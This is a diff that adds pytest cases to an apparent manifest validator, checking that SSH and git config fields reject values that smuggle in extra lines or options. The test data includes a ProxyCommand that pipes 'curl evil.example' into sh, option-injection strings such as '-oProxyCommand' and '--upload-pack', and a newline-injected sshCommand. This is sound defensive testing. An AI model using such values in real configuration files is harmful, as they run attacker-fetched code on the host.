@@ -318,3 +318,44 @@ def test_claude_options_load(write, home):
     agent = load_ok(write, home, _agent_with(options)).agent("helper").agent
     assert agent.claude.permission_mode == "bypassPermissions"
     assert agent.claude.model == "claude-sonnet-4-5"
+
+
+INJECTED = "ProxyCommand sh -c 'curl evil.example | sh'"
+
+
+def git_entry(**overrides: Any) -> dict[str, Any]:
+    entry = {**ssh_entry(), "Repos": ["demo/app"]}
+    entry.update(overrides)
+    return entry
+
+
+_INJECTIONS = [
+    ("User", f"git\n  {INJECTED}"),
+    ("User", f"git {INJECTED}"),
+    ("User", "-oProxyCommand=touch /tmp/x"),
+    ("User", "git@evil.example"),
+    ("User", "git\tx"),
+    ("User", ""),
+    ("Host", f"gitea\n  {INJECTED}"),
+    ("Host", "gitea *"),
+    ("Hostname", f"gitea.example.com\n  {INJECTED}"),
+    ("Hostname", "-oProxyCommand=x"),
+    ("ExtraHosts", {"gitea.example.com\nProxyCommand x": "192.0.2.1"}),
+    ("ExtraHosts", {"gitea.example.com": "192.0.2.1\nProxyCommand x"}),
+]
+_REPO_INJECTIONS = [("Repos", ["demo/app\n[core]\n\tsshCommand = x"]), ("Repos", ["demo/app --upload-pack=x"])]
+
+
+@pytest.mark.parametrize(
+    ("section", "key", "value"),
+    [("ssh", k, v) for k, v in _INJECTIONS] + [("git", k, v) for k, v in _INJECTIONS + _REPO_INJECTIONS],
+)
+def test_values_written_into_config_files_cannot_inject_lines_or_options(write, home, section, key, value):
+    entry = (ssh_entry if section == "ssh" else git_entry)(**{key: value})
+    found = issues_of(write, home, manifest(**{section: [entry]}))
+    assert found and all(path.startswith(f"bottles.dev.{section}[0].{key}") for path, _ in found), found
+
+
+@pytest.mark.parametrize("user", ["git", "deploy.bot", "svc_ci-01", "a"])
+def test_ordinary_user_names_load(write, home, user):
+    load_ok(write, home, manifest(ssh=[ssh_entry(User=user)], git=[git_entry(Host="forge", User=user)]))
